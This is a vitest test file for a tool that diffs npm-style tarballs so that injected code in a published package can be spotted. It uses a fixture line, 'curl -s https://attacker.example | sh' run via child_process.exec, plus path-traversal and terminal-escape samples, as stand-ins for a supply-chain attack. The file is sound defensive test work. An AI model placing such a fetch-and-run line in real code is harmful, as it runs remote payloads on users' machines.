import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';
import { createGzip, gzipSync } from 'node:zlib';
import tar from 'tar-stream';
import type { Header } from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EntryProbe } from './entry-contents.js';
import { diffTgz, MAX_FILE_DIFF_LINES, renderDiff, type ArtifactDiff, type DiffOptions } from './index.js';

// ---------- helpers: real tarballs, written to a temporary directory ----------

type Entry = Partial<Header> & { name: string; body?: string | Buffer };

async function packTar(entries: Entry[]): Promise<Buffer> {
  const pack = tar.pack();
  const collected = (async () => {
    const chunks: Buffer[] = [];
    for await (const c of pack) chunks.push(c as Buffer);
    return Buffer.concat(chunks);
  })();
  for (const { body, ...header } of entries) {
    await new Promise<void>((resolve, reject) => {
      pack.entry({ mtime: new Date(0), ...header }, body ?? '', (e) => (e ? reject(e) : resolve()));
    });
  }
  pack.finalize();
  return collected;
}

async function tgz(entries: Entry[], opts: { level?: number } = {}): Promise<Buffer> {
  return gzipSync(await packTar(entries), { level: opts.level ?? 9 });
}

const sha256 = (b: Buffer | string): string => createHash('sha256').update(b).digest('hex');
const NPM_TIME = new Date('1985-10-26T08:15:00.000Z');
const INDEX = 'module.exports = 42;\n';
const INJECTED = "require('child_process').exec('curl -s https://attacker.example | sh');";

/** A small npm-like package. */
function pkg(over: Partial<Record<'json' | 'index' | 'readme', Partial<Entry>>> = {}): Entry[] {
  return [
    { name: 'package/README.md', body: '# x\n', ...over.readme },
    { name: 'package/index.js', body: INDEX, ...over.index },
    { name: 'package/package.json', body: '{"name":"x","version":"1.0.0"}\n', ...over.json },
  ];
}

let dir = '';
let n = 0;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'quorum-diff-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function file(bytes: Buffer | Promise<Buffer>): Promise<string> {
  const path = join(dir, `artifact-${n++}.tgz`);
  await writeFile(path, await bytes);
  return path;
}

/** Diffs two archives given as entry lists (or ready bytes). */
async function diffOf(a: Entry[] | Buffer, b: Entry[] | Buffer, opts?: DiffOptions): Promise<ArtifactDiff> {
  const bytes = (x: Entry[] | Buffer): Promise<Buffer> => (Buffer.isBuffer(x) ? Promise.resolve(x) : tgz(x));
  return diffTgz(await file(bytes(a)), await file(bytes(b)), opts);
}

/** The changed (`+`/`-`) lines of a unified diff, without the file headers. */
function changedLines(unified: string | undefined): string[] {
  return (unified ?? '').split('\n').filter((l) => /^[+-]/.test(l) && !/^(\+\+\+|---) [ab]\//.test(l));
}

// ---------- what changed ----------

describe('diffTgz', () => {
  it('shows a tarball-only injection as exactly one changed file with exactly the added line', async () => {
    const d = await diffOf(pkg(), pkg({ index: { body: `${INDEX}${INJECTED}\n` } }));
    expect(d).toMatchObject({ v: 1, identical: false, sameContent: false, added: [], removed: [], metadataOnly: [], archive: [], truncated: false });
    expect(d.changed).toHaveLength(1);
    const [c] = d.changed;
    expect(c).toMatchObject({
      path: 'package/index.js',
      kind: 'text',
      a: { type: 'file', size: INDEX.length, sha256: sha256(INDEX) },
      b: { type: 'file', size: INDEX.length + INJECTED.length + 1, sha256: sha256(`${INDEX}${INJECTED}\n`) },
    });
    expect(c!.note).toBeUndefined();
    expect(changedLines(c!.unified)).toEqual([`+${INJECTED}`]);
    expect(c!.unified).toBe(`--- a/package/index.js\n+++ b/package/index.js\n@@ -1,1 +1,2 @@\n ${INDEX}+${INJECTED}\n`);
  });

  it('lists added and removed files with their digests, sorted by path whatever the archive order', async () => {
    const extra = 'exports.extra = 1;\n';
    const d = await diffOf(
      [...pkg(), { name: 'package/old.js', body: 'old\n' }],
      [{ name: 'package/z/last.js', body: 'z\n' }, ...pkg().slice(1).reverse(), { name: 'package/lib/extra.js', body: extra }, { name: 'package/a.js', body: 'a\n' }],
    );
    expect(d.added).toEqual([
      { path: 'package/a.js', type: 'file', size: 2, sha256: sha256('a\n') },
      { path: 'package/lib/extra.js', type: 'file', size: extra.length, sha256: sha256(extra) },
      { path: 'package/z/last.js', type: 'file', size: 2, sha256: sha256('z\n') },
    ]);
    expect(d.removed).toEqual([
      { path: 'package/README.md', type: 'file', size: 4, sha256: sha256('# x\n') },
      { path: 'package/old.js', type: 'file', size: 4, sha256: sha256('old\n') },
    ]);
    expect(d.changed).toEqual([]);
    expect(d.metadataOnly).toEqual([]);
    expect(d.sameContent).toBe(false);
    // the entries both hold unchanged are in another order
    expect(d.archive).toEqual(['tar-entry-order']);
  });

  it('reports a binary change with digests only', async () => {
    const png = (seed: number): Buffer => Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), Buffer.alloc(64, seed), randomBytes(256)]);
    const [x, y] = [png(1), png(2)];
    const d = await diffOf([...pkg(), { name: 'package/logo.png', body: x }], [...pkg(), { name: 'package/logo.png', body: y }]);
    expect(d.changed).toEqual([
      {
        path: 'package/logo.png',
        kind: 'binary',
        a: { type: 'file', size: x.length, sha256: sha256(x) },
        b: { type: 'file', size: y.length, sha256: sha256(y) },
        note: 'binary content (NUL byte in the first 8 KiB)',
      },
    ]);
    expect(d.changed[0]!.unified).toBeUndefined();
  });

  it('treats invalid UTF-8 on one side as binary', async () => {
    const d = await diffOf(pkg(), pkg({ index: { body: Buffer.from([0x61, 0xff, 0xfe, 0x0a]) } }));
    expect(d.changed).toMatchObject([{ path: 'package/index.js', kind: 'binary', note: 'binary content (b: not valid UTF-8)' }]);
    expect(d.changed[0]!.unified).toBeUndefined();
  });

  it('reports a mode-only difference under metadataOnly, not under changed', async () => {
    const d = await diffOf(pkg(), pkg({ index: { mode: 0o664 } }));
    expect(d.sameContent).toBe(true);
    expect(d.changed).toEqual([]);
    expect(d.metadataOnly).toEqual([{ path: 'package/index.js', fields: [{ name: 'mode', a: '0644', b: '0664' }] }]);
    expect(d.archive).toEqual(['tar-modes']);
  });

  it('reports an mtime-only difference under metadataOnly, not under changed', async () => {
    const d = await diffOf(pkg(), pkg({ readme: { mtime: NPM_TIME } }));
    expect(d.sameContent).toBe(true);
    expect(d.changed).toEqual([]);
    expect(d.metadataOnly).toEqual([{ path: 'package/README.md', fields: [{ name: 'mtime', a: 0, b: NPM_TIME.getTime() / 1000 }] }]);
    expect(d.archive).toEqual(['tar-times']);
  });

  it('reports owners and pax times as metadata, the pax value winning over the header', async () => {
    const d = await diffOf(pkg(), pkg({ json: { uid: 1000, gid: 100, uname: 'alice', gname: 'users', pax: { mtime: '1700000000.5' } } }));
    expect(d.metadataOnly).toEqual([
      {
        path: 'package/package.json',
        fields: [
          { name: 'mtime', a: 0, b: '1700000000.5' },
          { name: 'uid', a: 0, b: 1000 },
          { name: 'gid', a: 0, b: 100 },
          { name: 'uname', a: '', b: 'alice' },
          { name: 'gname', a: '', b: 'users' },
        ],
      },
    ]);
    expect(d.changed).toEqual([]);
  });

  it('puts a new execute bit under metadataOnly although it changes the stabilized form', async () => {
    const d = await diffOf(pkg(), pkg({ index: { mode: 0o755 } }));
    expect(d.sameContent).toBe(false);
    expect(d.changed).toEqual([]);
    expect(d.metadataOnly).toEqual([{ path: 'package/index.js', fields: [{ name: 'mode', a: '0644', b: '0755' }] }]);
  });

  it('reports type and link-target changes as kind "type"', async () => {
    const d = await diffOf(
      [...pkg(), { name: 'package/cli', body: '#!/bin/sh\n' }, { name: 'package/link', type: 'symlink', linkname: 'index.js' }],
      [...pkg(), { name: 'package/cli', type: 'symlink', linkname: 'index.js' }, { name: 'package/link', type: 'symlink', linkname: 'README.md' }],
    );
    expect(d.changed).toEqual([
      {
        path: 'package/cli',
        kind: 'type',
        a: { type: 'file', size: 10, sha256: sha256('#!/bin/sh\n') },
        b: { type: 'symlink', size: 0, sha256: sha256(''), target: 'index.js' },
        note: 'file → symlink to "index.js"',
      },
      {
        path: 'package/link',
        kind: 'type',
        a: { type: 'symlink', size: 0, sha256: sha256(''), target: 'index.js' },
        b: { type: 'symlink', size: 0, sha256: sha256(''), target: 'README.md' },
        note: 'symlink target "index.js" → "README.md"',
      },
    ]);
  });

  it('says identical for the same bytes, with empty lists', async () => {
    const bytes = await tgz(pkg({ index: { mtime: NPM_TIME } }));
    const d = await diffTgz(await file(bytes), await file(bytes), { labels: { a: 'published', b: 'rebuild' } });
    expect(d).toEqual({
      v: 1,
      a: { label: 'published', sha256: sha256(bytes), stabilizedSha256: d.b.stabilizedSha256, entries: 3 },
      b: { label: 'rebuild', sha256: sha256(bytes), stabilizedSha256: d.a.stabilizedSha256, entries: 3 },
      identical: true,
      sameContent: true,
      added: [],
      removed: [],
      changed: [],
      metadataOnly: [],
      archive: [],
      truncated: false,
    });
  });

  it('says sameContent for a repacked archive and names the stabilizers of the repacking', async () => {
    const d = await diffOf(await tgz(pkg(), { level: 9 }), await tgz(pkg().reverse(), { level: 1 }));
    expect(d).toMatchObject({ identical: false, sameContent: true, added: [], removed: [], changed: [], metadataOnly: [], truncated: false });
    expect(d.a.stabilizedSha256).toBe(d.b.stabilizedSha256);
    expect(d.archive).toEqual(['gzip-level', 'tar-entry-order']);
  });

  it('names the archive stabilizers beside a content change, over the entries with the same content only', async () => {
    const npmLike = (e: Entry[]): Entry[] => e.map((x) => ({ ...x, mtime: NPM_TIME }));
    const d = await diffOf(await tgz(pkg(), { level: 9 }), await tgz(npmLike([...pkg({ index: { body: `${INDEX}${INJECTED}\n` } }), { name: 'package/new.js', body: 'x' }]), { level: 1 }));
    expect(d.changed.map((c) => c.path)).toEqual(['package/index.js']);
    expect(d.added.map((f) => f.path)).toEqual(['package/new.js']);
    expect(d.metadataOnly.map((m) => m.path)).toEqual(['package/README.md', 'package/package.json']);
    expect(d.archive).toEqual(['gzip-level', 'tar-times']);
    // a new execute bit beside a content change: metadata-only, and named at archive level too
    const x = await diffOf(pkg(), pkg({ index: { body: 'changed\n' }, json: { mode: 0o755 } }));
    expect(x.metadataOnly).toEqual([{ path: 'package/package.json', fields: [{ name: 'mode', a: '0644', b: '0755' }] }]);
    expect(x.archive).toEqual(['tar-modes']);
  });

  it('uses the file names as labels by default', async () => {
    const a = await file(tgz(pkg()));
    const b = await file(tgz(pkg()));
    const d = await diffTgz(a, b);
    expect([d.a.label, d.b.label]).toEqual([a.split('/').pop(), b.split('/').pop()]);
  });
});

// ---------- caps ----------

describe('diffTgz caps', () => {
  it('gives a note instead of a diff for a text file over maxTextBytes', async () => {
    const big = Array.from({ length: 40_000 }, (_, i) => `line ${i} ${'x'.repeat(24)}`).join('\n'); // about 1.3 MB
    const d = await diffOf([...pkg(), { name: 'package/dist/bundle.js', body: big }], [...pkg(), { name: 'package/dist/bundle.js', body: `${big}\nevil();\n` }]);
    expect(d.changed).toEqual([expect.objectContaining({ path: 'package/dist/bundle.js', kind: 'text', note: 'text diff omitted: over 1 MiB (maxTextBytes)' })]);
    expect(d.changed[0]!.unified).toBeUndefined();
    expect(d.truncated).toBe(false);
    const small = await diffOf([...pkg(), { name: 'package/dist/bundle.js', body: big }], [...pkg(), { name: 'package/dist/bundle.js', body: `${big}\nevil();\n` }], { maxTextBytes: 2 * 1024 * 1024 });
    expect(changedLines(small.changed[0]!.unified)).toEqual([`-${big.split('\n').pop()}`, `+${big.split('\n').pop()}`, '+evil();']);
  });

  it('sets truncated when maxDiffBytes is reached, and keeps what fits', async () => {
    const d = await diffOf(pkg(), pkg({ index: { body: `${INDEX}${INJECTED}\n` } }), { maxDiffBytes: 40 });
    expect(d.truncated).toBe(true);
    expect(d.changed[0]).toMatchObject({ path: 'package/index.js', kind: 'text', note: 'text diff omitted: maxDiffBytes (40 bytes) reached' });
    expect(d.changed[0]!.unified).toBeUndefined();
  });

  it('shows the leading hunks that fit, and smaller diffs of later files', async () => {
    const lines = Array.from({ length: 100 }, (_, i) => `const v${i} = ${i};`);
    const edited = lines.map((l, i) => (i === 10 || (i >= 80 && i < 86) ? `${l} // changed` : l));
    const a = [...pkg(), { name: 'package/a.js', body: `${lines.join('\n')}\n` }, { name: 'package/b.js', body: `${'y'.repeat(2000)}\n` }];
    const b = [...pkg({ json: { body: '{"name":"x","version":"1.0.1"}\n' } }), { name: 'package/a.js', body: `${edited.join('\n')}\n` }, { name: 'package/b.js', body: `${'z'.repeat(2000)}\n` }];
    const full = await diffOf(a, b);
    const firstHunk = full.changed[0]!.unified!.split('@@ -78')[0]!;
    const secondHunk = full.changed[0]!.unified!.slice(firstHunk.length);
    const packageJson = full.changed[2]!.unified!;
    expect(Buffer.byteLength(secondHunk)).toBeGreaterThan(Buffer.byteLength(packageJson));
    // room for the first hunk of a.js and for package.json, not for the second hunk or b.js
    const budget = Buffer.byteLength(firstHunk) + Buffer.byteLength(packageJson);
    const d = await diffOf(a, b, { maxDiffBytes: budget });
    expect(d.truncated).toBe(true);
    expect(d.changed.map((c) => [c.path, c.note])).toEqual([
      ['package/a.js', expect.stringMatching(/^text diff truncated: 1 of 2 hunks shown/)],
      ['package/b.js', expect.stringMatching(/^text diff omitted: maxDiffBytes/)],
      ['package/package.json', undefined],
    ]);
    expect(d.changed[0]!.unified).toBe(firstHunk);
    expect(changedLines(d.changed[2]!.unified)).toEqual(['-{"name":"x","version":"1.0.0"}', '+{"name":"x","version":"1.0.1"}']);
    const total = d.changed.reduce((s, c) => s + Buffer.byteLength(c.unified ?? ''), 0);
    expect(total).toBeLessThanOrEqual(budget);
  });

  it('leaves out a text diff with too many changed lines', async () => {
    const a = Array.from({ length: MAX_FILE_DIFF_LINES }, (_, i) => `a${i}`).join('\n');
    const b = Array.from({ length: MAX_FILE_DIFF_LINES }, (_, i) => `b${i}`).join('\n');
    const d = await diffOf([...pkg(), { name: 'package/gen.js', body: a }], [...pkg(), { name: 'package/gen.js', body: b }]);
    expect(d.changed).toEqual([expect.objectContaining({ kind: 'text', note: `text diff omitted: more than ${MAX_FILE_DIFF_LINES} changed lines` })]);
    expect(d.changed[0]!.unified).toBeUndefined();
  });

  it('keeps no more changed text in memory than maxBufferedBytes', async () => {
    const d = await diffOf(
      [...pkg(), { name: 'package/a.js', body: 'a'.repeat(600) }, { name: 'package/b.js', body: 'b'.repeat(600) }],
      [...pkg(), { name: 'package/a.js', body: 'A'.repeat(600) }, { name: 'package/b.js', body: 'B'.repeat(600) }],
      { maxBufferedBytes: 1500 },
    );
    expect(d.changed[0]!.unified).toBeDefined();
    expect(d.changed[1]).toMatchObject({ path: 'package/b.js', kind: 'text', note: expect.stringMatching(/maxBufferedBytes/) });
    expect(d.changed[1]!.unified).toBeUndefined();
    expect(d.truncated).toBe(true);
  });

  it('refuses unsafe, invalid and missing inputs as analyzeTgz does', async () => {
    const good = await file(tgz(pkg()));
    await expect(diffTgz(good, await file(tgz([{ name: '../evil.js', body: 'x' }])))).rejects.toMatchObject({ code: 'unsafe-archive' });
    await expect(diffTgz(await file(Buffer.from('not a tarball')), good)).rejects.toMatchObject({ code: 'invalid-input' });
    await expect(diffTgz(good, join(dir, 'missing.tgz'))).rejects.toMatchObject({ code: 'not-found' });
    await expect(diffTgz(good, good, { maxDiffBytes: -1 })).rejects.toMatchObject({ code: 'invalid-input' });
    await expect(diffTgz(good, await file(tgz([...pkg(), { name: 'package/x', body: 'x' }])), { maxEntries: 3 })).rejects.toMatchObject({ code: 'unsafe-archive' });
  });
});

// ---------- the report ----------

describe('renderDiff', () => {
  it('prints a summary, the lists and the unified diffs', async () => {
    const d = await diffOf(
      [...pkg(), { name: 'package/old.js', body: 'old\n' }],
      [...pkg({ index: { body: `${INDEX}${INJECTED}\n` }, readme: { mtime: NPM_TIME } }), { name: 'package/new.js', body: 'new\n' }],
      { labels: { a: 'published', b: 'rebuild' } },
    );
    expect(renderDiff(d)).toBe(
      [
        `a: published  sha256 ${d.a.sha256}  4 entries`,
        `b: rebuild  sha256 ${d.b.sha256}  4 entries`,
        'content differs: 1 added, 1 removed, 1 changed, 1 metadata-only',
        'archive differs in: tar-times',
        '',
        'added (1):',
        `  + package/new.js  file  4 bytes  sha256 ${sha256('new\n')}`,
        '',
        'removed (1):',
        `  - package/old.js  file  4 bytes  sha256 ${sha256('old\n')}`,
        '',
        'changed (1):',
        `  ~ package/index.js  text  21 bytes → ${INDEX.length + INJECTED.length + 1} bytes`,
        '',
        'metadata only (1):',
        '  package/README.md  mtime 0 (1970-01-01T00:00:00Z) → 499162500 (1985-10-26T08:15:00Z)',
        '',
        '--- a/package/index.js',
        '+++ b/package/index.js',
        '@@ -1,1 +1,2 @@',
        ` ${INDEX.trimEnd()}`,
        `+${INJECTED}`,
        '',
      ].join('\n'),
    );
  });

  it('escapes terminal control and bidi characters so a hostile file cannot hide a line', async () => {
    const d = await diffOf(pkg(), pkg({ index: { body: `${INDEX}evil();\x1b[1A\x1b[2K// ok \u202e\x9b2J\x7f\r\n` } }));
    const text = renderDiff(d);
    expect(text).toContain('+evil();\\u001b[1A\\u001b[2K// ok \\u202e\\u009b2J\\u007f\\r');
    expect(text).not.toMatch(/[\x1b\r\u202e\x9b\x7f]/);
  });

  it('says so when the archives are identical or differ only in encoding', async () => {
    const bytes = await tgz(pkg());
    expect(renderDiff(await diffOf(bytes, bytes))).toContain('identical: the raw bytes are the same');
    const repacked = renderDiff(await diffOf(bytes, await tgz(pkg(), { level: 1 })));
    expect(repacked).toContain('same content, different archive: 0 added, 0 removed, 0 changed, 0 metadata-only');
    expect(repacked).toContain('archive differs in: gzip-level');
  });
});

// ---------- real sizes ----------

// its speed is measured by benchmark P6 (test/bench/p6-diff.ts), next to diffoscope's
describe('diffTgz memory', () => {
  it('diffs two 50 MB tarballs differing in 3 small files within bounded memory', { timeout: 180_000 }, async () => {
    const MB = 1024 * 1024;
    const seed = randomBytes(16);
    // the same incompressible 1 MiB blobs on both sides, generated again for each archive instead of held
    const blob = (i: number): Buffer => {
      const iv = Buffer.alloc(16);
      iv.writeUInt32BE(i);
      return createCipheriv('aes-128-ctr', seed, iv).update(Buffer.alloc(MB));
    };
    const small = (i: number, edited: boolean): string => `// file ${i}\nmodule.exports = ${i};\n${edited ? `${INJECTED}\n` : ''}`;
    async function write(path: string, edited: Set<number>): Promise<void> {
      const pack = tar.pack();
      const written = pipeline(pack, createGzip({ level: 1 }), createWriteStream(path));
      const add = (name: string, body: Buffer | string): Promise<void> => new Promise((resolve, reject) => pack.entry({ name, mtime: new Date(0) }, body, (e) => (e ? reject(e) : resolve())));
      for (let i = 0; i < 48; i++) {
        // small text files at the start, in the middle and at the end of the archive
        if (i % 8 === 0) await add(`package/src/m${i}.js`, small(i, edited.has(i)));
        await add(`package/blobs/b${i}.bin`, blob(i));
      }
      await add('package/src/zz.js', small(99, edited.has(99)));
      pack.finalize();
      await written;
    }
    const a = join(dir, 'big-a.tgz');
    const b = join(dir, 'big-b.tgz');
    await write(a, new Set());
    await write(b, new Set([0, 24, 99]));

    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 5);
    let d: ArtifactDiff;
    try {
      d = await diffTgz(a, b);
    } finally {
      clearInterval(sampler);
    }
    peak = Math.max(peak, process.memoryUsage().rss);

    expect(d.changed.map((c) => [c.path, c.kind, changedLines(c.unified)])).toEqual([
      ['package/src/m0.js', 'text', [`+${INJECTED}`]],
      ['package/src/m24.js', 'text', [`+${INJECTED}`]],
      ['package/src/zz.js', 'text', [`+${INJECTED}`]],
    ]);
    expect(d).toMatchObject({ added: [], removed: [], metadataOnly: [], archive: [], truncated: false });
    expect(peak - before).toBeLessThan(80 * MB);
  });
});

// ---------- text or binary, whatever the chunking ----------

describe('EntryProbe', () => {
  const probe = (bytes: Buffer, chunk: number) => {
    const p = new EntryProbe({ index: 0, rawName: 'x', size: bytes.length, sha256: sha256(bytes), keep: true });
    for (let i = 0; i < bytes.length; i += chunk) p.add(bytes.subarray(i, i + chunk));
    return p.finish();
  };

  it.each([1, 3, 4096, 1 << 20])('gives the same answer for chunks of %i bytes', (chunk) => {
    const text = Buffer.from('h\u00e9llo \u20ac \u{1f600}\n'.repeat(500));
    expect(probe(text, chunk)).toEqual({ binary: null, text: text.toString('utf8') });
    // invalid UTF-8 at the start, a NUL byte later within the first 8 KiB: the NUL byte is the reason
    const bin = Buffer.concat([Buffer.from([0x61, 0xff]), Buffer.alloc(5000, 0x61), Buffer.from([0]), Buffer.alloc(5000, 0x61)]);
    expect(probe(bin, chunk)).toEqual({ binary: 'NUL byte in the first 8 KiB' });
    const late = Buffer.concat([Buffer.alloc(9000, 0x61), Buffer.from([0xc3])]);
    expect(probe(late, chunk)).toEqual({ binary: 'not valid UTF-8' });
    // a byte order mark is content, kept so that a diff shows it
    expect(probe(Buffer.from('\ufeffx\n'), chunk)).toEqual({ binary: null, text: '\ufeffx\n' });
  });

  it('refuses content that differs from what the first pass saw', () => {
    const p = new EntryProbe({ index: 0, rawName: 'x', size: 2, sha256: sha256('ab'), keep: true });
    p.add(Buffer.from('ac'));
    expect(() => p.finish()).toThrow(/changed between the two passes/);
  });
});
